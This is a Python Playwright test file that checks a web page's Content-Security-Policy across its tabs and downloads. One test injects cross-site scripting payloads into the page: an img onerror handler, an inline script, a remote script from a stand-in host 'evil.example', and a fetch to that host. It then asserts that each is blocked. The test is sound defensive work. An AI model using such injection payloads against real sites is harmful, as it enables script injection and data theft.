"""The page keeps its own Content-Security-Policy in every tab, and a script that got into it does not run."""

from __future__ import annotations

import re
from collections.abc import Callable

from playwright.sync_api import Browser, Page, expect

from tests.page.serving import Served

Open = Callable[..., Page]
WATCH = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
    window.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
});
"""


def test_no_tab_breaks_the_policy(open_page: Open) -> None:
    """A run, a measurement, a comparison of methods, the downloads, and every tab that shows them."""
    tab = open_page()
    tab.evaluate(WATCH)
    tab.click("#run")
    expect(tab.locator("#status .done")).to_be_visible(timeout=120_000)
    for name in tab.locator("#tabs button[role=tab]").all_inner_texts():
        tab.get_by_role("tab", name=name, exact=True).click()
        for button in ("#measure-diffusion", "#compare-methods"):
            if tab.locator(button).is_visible():
                tab.click(button)
                expect(tab.locator("#run")).to_be_disabled()
                expect(tab.locator("#run")).to_be_enabled(timeout=120_000)
    with tab.expect_download() as download:
        tab.get_by_text("Figures and tables, ZIP").click()
    assert download.value.suggested_filename.endswith(".zip")
    assert tab.evaluate("window.violations") == []


def test_a_script_that_got_into_the_page_does_not_run(chromium: Browser, site: Served) -> None:
    context = chromium.new_context()
    try:
        tab = context.new_page()
        tab.goto(site.url)
        expect(tab.locator("#run")).to_be_enabled(timeout=60_000)
        expect(tab.locator("#verdict")).to_be_attached()
        tab.evaluate(WATCH)
        tab.evaluate(
            """() => {
                const place = document.querySelector('#verdict');
                place.innerHTML = '<img src="data:," onerror="window.harmed = 1">';
                const script = document.createElement('script');
                script.textContent = 'window.harmed = 2';
                place.append(script);
                const remote = document.createElement('script');
                remote.src = 'https://evil.example/x.js';
                place.append(remote);
                fetch('https://evil.example/').catch(() => {});
            }"""
        )
        tab.wait_for_function("window.violations.length >= 4")
        assert tab.evaluate("window.harmed") is None
        kinds = {re.split(r"[ -]", violation)[0] for violation in tab.evaluate("window.violations")}
        assert kinds == {"script", "connect"}
    finally:
        context.close()
